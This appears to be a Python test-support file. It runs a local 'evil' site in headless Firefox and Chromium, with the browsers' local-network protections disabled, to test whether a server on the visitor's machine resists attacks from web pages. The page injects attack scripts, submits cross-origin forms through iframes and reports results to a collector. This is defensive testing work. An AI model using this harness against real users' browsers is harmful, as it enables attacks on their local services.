"""A web site that attacks a server on the machine of its visitor, and browsers that visit it."""

import contextlib
import http.server
import json
import os
import shutil
import subprocess
import threading

from conftest import CHROMIUM, NAMES

FIREFOX = os.environ.get("FIREFOX", shutil.which("firefox-esr"))
# The browsers' own restrictions on requests from pages to this machine are disabled, because the tests are
# about those of the server.
FIREFOX_SETTINGS = {
    "network.lna.enabled": False,
    "network.dns.localDomains": "evil.example,other.example,reprise.example",
    "network.proxy.type": 0,
    "dom.security.https_first": False,
    "dom.security.https_only_mode": False,
    "browser.shell.checkDefaultBrowser": False,
    "browser.aboutwelcome.enabled": False,
    "datareporting.policy.dataSubmissionEnabled": False,
    "app.update.enabled": False,
}
CHROMIUM_OPTIONS = [
    "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--no-proxy-server", NAMES,
    "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,HttpsUpgrades"]


def chromium(url, folder):
    return [CHROMIUM, *CHROMIUM_OPTIONS, f"--user-data-dir={folder}", url]


def firefox(url, folder):
    folder.mkdir()
    lines = [f'user_pref("{name}", {json.dumps(value)});\n' for name, value in FIREFOX_SETTINGS.items()]
    (folder / "user.js").write_text("".join(lines))
    return [FIREFOX, "--headless", "--no-remote", "--profile", str(folder), url]


@contextlib.contextmanager
def visitor(command, url, folder):
    """Opens a page in a browser of its own, and closes the browser in the end."""
    # The browser's processes form a group, all of which must end.
    process = subprocess.Popen(
        command(url, folder), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        yield
    finally:
        os.killpg(process.pid, 15)
        process.wait(timeout=30)


class EvilSite:
    """
    A site on this machine with one page. The page runs a script, a function body that returns an object, and
    sends the object back.
    """

    def __init__(self, script, port=0):
        site = self
        self.result = None
        self.has_result = threading.Event()
        self.is_loaded = threading.Event()
        # The header fields of requests for /fields by their host, which show what a browser sends.
        self.fields = {}

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                if self.path == "/":
                    self.send(200, "text/html; charset=utf-8", PAGE.replace("SCRIPT", script).encode())
                    site.is_loaded.set()
                else:
                    self.send(404, "text/plain", b"not found")

            def do_POST(self):
                body = self.rfile.read(int(self.headers["Content-Length"]))
                self.send(204, "text/plain", b"")
                if self.path == "/fields":
                    site.fields[self.headers["Host"].split(":")[0]] = self.headers
                else:
                    site.result = json.loads(body)
                    site.has_result.set()

            def send(self, status, media_type, body):
                self.send_response(status)
                self.send_header("Content-Type", media_type)
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *arguments):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
        self.port = self.server.server_port
        threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}).start()
        self.is_open = True

    def close(self):
        if self.is_open:
            self.server.shutdown()
            self.server.server_close()
        self.is_open = False

    def attack(self):
        """Waits for the end of the page's script, and returns the object."""
        assert self.has_result.wait(60), "the page must report within a minute"
        return self.result


PAGE = """<!doctype html><title>kittens</title><body><script type="module">
/** What happened to an attempt, as text. */
async function tried(action) {
  try {
    return await action();
  } catch (error) {
    return String(error);
  }
}

const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));

/** The status and the text of a response, as far as the browser lets the page see them. */
async function seen(response) {
  return `${response.type} ${response.status} ${await response.text()}`;
}

/** Submits a form to a frame, and waits for the response. */
function submit(action, enctype, fields) {
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = `frame${document.forms.length}`;
    const form = document.createElement("form");
    Object.assign(form, { action, method: "post", enctype, target: frame.name });
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement("textarea");
      Object.assign(input, { name, value });
      form.append(input);
    }
    document.body.append(frame, form);
    frame.onload = () => resolve("submitted");
    setTimeout(() => resolve("no response"), 5000);
    form.submit();
  });
}

const attack = async () => { SCRIPT };
const report = { method: "POST", mode: "no-cors", body: JSON.stringify(await attack()) };
await fetch(typeof collector === "string" ? collector : "/", report);
</script>
"""
